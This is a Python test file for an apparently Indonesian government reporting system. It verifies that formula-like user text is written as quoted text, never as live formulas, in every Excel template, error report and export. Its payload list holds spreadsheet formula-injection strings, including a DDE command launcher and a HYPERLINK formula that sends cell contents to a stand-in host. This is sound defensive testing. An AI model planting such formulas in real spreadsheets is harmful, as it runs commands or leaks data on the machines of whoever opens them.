"""Text users typed never becomes a formula in a workbook the product writes.

Formula-like text goes into every user-text field (SPM permasalahan and solusi, LPPD
data dukung and keterangan, a unit's name); then every workbook the product can write
from it (prefilled templates, error reports, the report workbooks, dashboard exports,
the SKM template) is opened with openpyxl and scanned: no formula cell, no cell whose
value begins with ``=``... stored as anything but text (with the quote prefix).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from dashboard.charts import exports
from pipelines import review
from pipelines.core.safe_text import is_risky_text
from pipelines.ingest import error_report, templates
from pipelines.ingest.commit import ingest_file
from pipelines.laporan import records as laporan
from pipelines.laporan.data import collect
from pipelines.pelayanan import skm
from pipelines.pelayanan import unit as units
from tests.ingest_helpers import ADMIN, ON_TIME, make_template

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "=1+1",
    "\t=2+2",  # stored as "=2+2" (text is trimmed on upload)
]
KAB_TEXT = (
    "SELECT kode_layanan, permasalahan, solusi FROM spm_data WHERE kode_wilayah = '19.01' "
    "ORDER BY ALL"
)
SPM_HEADER = [
    "kode_wilayah",
    "tahun",
    "triwulan",
    "kode_layanan",
    "jumlah_sasaran",
    "jumlah_terlayani",
    "permasalahan",
    "solusi",
]


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def _csv(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _codes(db, level: str, opd: str | None = None) -> list[str]:
    return db.df(
        "SELECT kode FROM layanan WHERE tingkat = ? AND (? IS NULL OR kode_opd = ?) "
        "ORDER BY urutan",
        [level, opd, opd],
    )["kode"].tolist()


def _spm_rows(region: str, codes: list[str], *, terlayani: object = 90) -> list[list[object]]:
    return [
        [region, 2025, 2, code, 100, terlayani, payload(i), payload(i + 1)]
        for i, code in enumerate(codes)
    ]


def _ingest(db, path: Path):
    result = ingest_file(db, path, ADMIN, today=ON_TIME)
    assert result.accepted, [p.text() for p in result.problems]
    return result


def load_formula_text(db, tmp_path: Path) -> None:
    """Formula-like text in every user-text field, through the ordinary upload."""
    _ingest(
        db, _csv(tmp_path / "kab.csv", SPM_HEADER, _spm_rows("19.01", _codes(db, "kabupaten/kota")))
    )
    _ingest(
        db,
        _csv(
            tmp_path / "prov.csv",
            SPM_HEADER,
            _spm_rows("19", _codes(db, "provinsi", "dinkes")),
        ),
    )
    ikk = db.df("SELECT kode_ikk FROM ikk ORDER BY urutan")["kode_ikk"].tolist()[:6]
    _ingest(
        db,
        _csv(
            tmp_path / "lppd.csv",
            [
                "kode_wilayah",
                "tahun",
                "kode_ikk",
                "pembilang",
                "penyebut",
                "capaian",
                "data_dukung",
                "keterangan",
            ],
            [
                ["19.01", 2024, code, 80, 100, None, payload(i), payload(i + 3)]
                for i, code in enumerate(ikk)
            ],
        ),
    )


def formula_cells(data: bytes) -> list[str]:
    """Every cell of the workbook that a spreadsheet program would run, or risky text
    stored without the quote prefix: 'Sheet!A1 value'."""
    wb = load_workbook(io.BytesIO(data))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                runs = cell.data_type == "f" or (isinstance(value, str) and value.startswith("="))
                unguarded = is_risky_text(value) and not (
                    cell.data_type == "s" and cell.quotePrefix
                )
                if runs and cell.data_type != "s" or unguarded:
                    found.append(f"{ws.title}!{cell.coordinate} {value!r}")
    return found


def texts(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def test_a_prefilled_template_keeps_formula_like_text_as_text_and_is_accepted_again(db, tmp_path):
    load_formula_text(db, tmp_path)
    before = db.df(KAB_TEXT)
    assert set(before["permasalahan"]) >= {p.strip() for p in PAYLOADS}

    path = make_template(db, tmp_path / "kab.xlsx")
    data = path.read_bytes()
    assert formula_cells(data) == []
    assert {p.strip() for p in PAYLOADS} <= texts(data)

    # The template as downloaded goes back in unchanged: accepted, nothing changed.
    again = ingest_file(db, path, ADMIN, today=ON_TIME)
    assert again.accepted, [p.text() for p in again.problems]
    assert again.unchanged and again.counts["sama"] == len(before)
    after = db.df(KAB_TEXT)
    pd.testing.assert_frame_equal(before, after)

    lppd = make_template(db, tmp_path / "lppd.xlsx", form="lppd-ikk", year=2024)
    assert formula_cells(lppd.read_bytes()) == []
    again = ingest_file(db, lppd, ADMIN, today=ON_TIME)
    assert again.accepted and again.unchanged, [p.text() for p in again.problems]


def test_no_workbook_the_product_writes_holds_a_formula_from_user_text(db, tmp_path):
    load_formula_text(db, tmp_path)
    units.add(db, "uptd-uji", PAYLOADS[1], actor=ADMIN, kode_wilayah="19.01")
    written: dict[str, bytes] = {}

    for name, kwargs in {
        "templat spm-kabkota": {},
        "templat spm-provinsi": {"form": "spm-provinsi", "region": "19", "opd": "dinkes"},
        "templat lppd-ikk": {"form": "lppd-ikk", "year": 2024},
    }.items():
        written[name] = make_template(db, tmp_path / f"{name}.xlsx", **kwargs).read_bytes()

    # Error reports of refused files carrying the text: a CSV and a template.
    bad_csv = _csv(
        tmp_path / "salah.csv",
        SPM_HEADER,
        _spm_rows("19.01", _codes(db, "kabupaten/kota"), terlayani="sepuluh"),
    )
    bad_xlsx = tmp_path / "salah.xlsx"
    wb = load_workbook(tmp_path / "templat spm-kabkota.xlsx")
    wb["Data"].cell(row=templates.FIRST_DATA_ROW, column=6).value = "sepuluh"
    wb["Data"]["AZ1"] = "=SUM(1,2)"  # a formula of the uploader's own workbook
    wb.save(bad_xlsx)
    for path in (bad_csv, bad_xlsx):
        result = ingest_file(db, path, ADMIN, today=ON_TIME)
        assert not result.accepted
        written[f"laporan galat {path.name}"] = error_report.build(
            path.read_bytes(), path.name, result
        )
    assert set(PAYLOADS) <= texts(written["laporan galat salah.csv"])

    # The report workbooks, the dashboards' downloads and the SKM template.
    for berkas in laporan.build_files(collect(db, 2025, 2)):
        if berkas.jenis_berkas == "xlsx":
            written[berkas.nama_berkas] = berkas.isi
    sub = db.scalar("SELECT max(id) FROM submission WHERE form = 'spm-kabkota'")
    written["unduhan banding"] = exports.xlsx_bytes(review.banding(db, sub))
    written["unduhan data"] = exports.xlsx_bytes(db.df("SELECT * FROM lppd_data"), sheet="=Data")
    written["templat SKM"] = skm.template(db, "uptd-uji", 2025, actor=ADMIN)

    assert len(written) >= 11
    found = {name: cells for name, data in written.items() if (cells := formula_cells(data))}
    assert found == {}
    # The text is there, as text (the reports show permasalahan and solusi).
    provinsi = next(v for k, v in written.items() if k.startswith("laporan-spm-provinsi"))
    assert PAYLOADS[0] in texts(provinsi)
    assert any(PAYLOADS[1] in t for t in texts(written["templat SKM"]))
